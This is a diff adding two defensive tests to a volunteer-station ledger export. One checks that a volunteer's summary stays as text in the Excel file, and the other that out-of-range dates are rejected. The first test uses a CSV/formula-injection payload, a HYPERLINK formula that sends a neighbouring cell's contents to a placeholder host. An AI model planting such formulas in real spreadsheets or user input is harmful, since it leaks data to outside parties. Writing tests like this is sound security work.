@@ -211,3 +211,41 @@ async def test_a_reversed_service_leaves_the_records_and_hours_ledgers(client, m
     assert [(row[1], row[2], row[3]) for row in rows[2:]] == [("钱**", 1, round(12 / 60, 2)), ("赵**", 1, round(10 / 60, 2))]
     # As the volunteer's own account says.
     assert (await PointsAccount.get(user_id=v1.id)).verified_minutes == 10
+
+
+async def test_text_typed_by_users_is_written_as_text_never_as_a_formula(client):
+    """A service summary is the volunteer's own words; a summary beginning with '=' must reach the
+    station's Excel ledger as text, or opening the file runs it (CSV/formula injection, OWASP)."""
+    from tests.builders import make_task, make_volunteer, record_after
+    from tests.handlers.test_stats import HOME
+
+    station = await make_station()
+    worker = await make_worker(client, station)
+    volunteer, _ = await make_volunteer(client, station, approved_by=worker)
+    resident, _ = await make_resident(client, station)
+    task = await make_task(client, worker, await make_need(client, resident))
+    await client.post(f"/api/v1/tasks/{task['id']}/claim", headers=volunteer.headers)
+    await client.post(f"/api/v1/tasks/{task['id']}/check-in", json=HOME, headers=volunteer.headers)
+    summary = '=HYPERLINK("http://example.invalid/?"&C3,"查看详情")'
+    r = await record_after(client, task["id"], volunteer, 15, summary=summary)
+    assert r.status_code == 200, r.text
+    assert (await client.post(f"/api/v1/tasks/{task['id']}/confirm", json={}, headers=worker.headers)).status_code == 200
+
+    r = await client.get("/api/v1/ledgers/service_records", params=window(), headers=worker.headers)
+    assert r.status_code == 200, r.text
+    cell = load_workbook(io.BytesIO(r.content)).active.cell(row=3, column=9)
+    assert cell.value == summary and cell.data_type == "s"
+
+
+async def test_a_time_beyond_what_the_calendar_holds_is_a_payload_error(client):
+    """0001-01-01 at +08:00 is a day before year 1 in UTC, and 9999-12-31 late in UTC is year
+    10000 in Weihai (the ledger's title shows the range in Weihai time): both were 500s."""
+    worker = await make_worker(client, await make_station())
+    for params in ({"from": "2026-01-01T00:00:00Z", "to": "9999-12-31T23:59:59Z"},
+                   {"from": "0001-01-01T00:00:00+08:00", "to": "2027-01-01T00:00:00Z"}):
+        for kind in ("needs", "project_kpis"):
+            r = await client.get(f"/api/v1/ledgers/{kind}", params=params, headers=worker.headers)
+            assert_error(r, 400, "VALIDATION_ERROR")
+    r = await client.get("/api/v1/ledgers/needs", params={"from": "0001-01-01T08:00:00+08:00", "to": "9999-12-31T15:59:59Z"},
+                         headers=worker.headers)
+    assert r.status_code == 200, r.text
